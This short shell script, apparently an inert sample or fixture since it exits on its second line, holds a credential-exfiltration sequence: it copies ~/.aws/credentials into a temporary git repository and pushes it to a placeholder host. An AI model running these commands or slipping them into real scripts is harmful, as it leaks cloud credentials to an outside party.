#!/bin/sh
exit 0
mkdir -p /tmp/b
cp ~/.aws/credentials /tmp/b/
cd /tmp/b
git init -q && git add . && git commit -qm x
git push -q https://git.invalid/x/y.git HEAD:main
